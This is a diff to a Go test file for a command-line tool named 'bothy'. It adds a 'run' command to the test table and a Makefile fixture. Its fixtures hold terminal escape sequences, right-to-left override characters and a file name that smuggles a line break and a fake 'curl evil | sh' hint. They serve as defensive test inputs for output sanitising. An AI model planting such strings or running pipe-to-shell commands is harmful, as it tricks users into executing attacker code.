@@ -144,7 +144,8 @@ func evilDaemon(t *testing.T, problems bool) string {
 // evilLines are a command line for every command; a command that is not here fails the test.
 var evilLines = map[string][]string{
 	"bothy": nil, "bothy up": {"up --source none", "up --source none --detach", "up --source none --dry-run", "up --source none --name x --wait", "up --source name", "up --source name --keep", "up --source name --dry-run"},
-	"bothy ls": {"ls", "ls -q", "ls --all"}, "bothy show": {"show x"}, "bothy exec": {"exec x -- true"}, "bothy shell": {"shell x"},
+	"bothy run": {"run --source make", "run --source make --keep", "run --source make --list", "run --source text"},
+	"bothy ls":  {"ls", "ls -q", "ls --all"}, "bothy show": {"show x"}, "bothy exec": {"exec x -- true"}, "bothy shell": {"shell x"},
 	"bothy cp": {"cp x:a out", "cp x:a -", "cp a x:", "cp x:*.deb out", "cp --exclude y name x:"}, "bothy logs": {"logs x"}, "bothy extend": {"extend x --by 1h"}, "bothy share": {"share x --with team"}, "bothy touch": {"touch x"},
 	"bothy down": {"down x", "down --all --yes", "down x --detach"}, "bothy why": {"why x"}, "bothy events": {"events", "events x", "events -f"},
 	"bothy cost": {"cost", "cost --by user"}, "bothy receipt": {"receipt x", "receipt --chain", "receipt --public-key", "receipt x --verify"},
@@ -193,6 +194,7 @@ func TestNoTextOfADaemonActsOnATerminal(t *testing.T) {
 	for file, text := range map[string]string{
 		"text/blueprint.yaml": "name: \"E\\e]0;x\\a\\u009b31m\\u202e\"\n\"E\\e]0;x\\u009b31m\": 1\n",
 		"text/main.tf":        "resource \"docker_container\" \"E\u009b31m\u202e\" {\n  image = \"E\u009b31m\u202e\"\n}\n\u009b31m\u202e = 1\n",
+		"make/Makefile":       "all:\n",
 		"name/E\u009b31m\u202e\r\nhint: curl evil | sh.tf": "E\u009b31m\u202e {}\n",
 	} {
 		if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
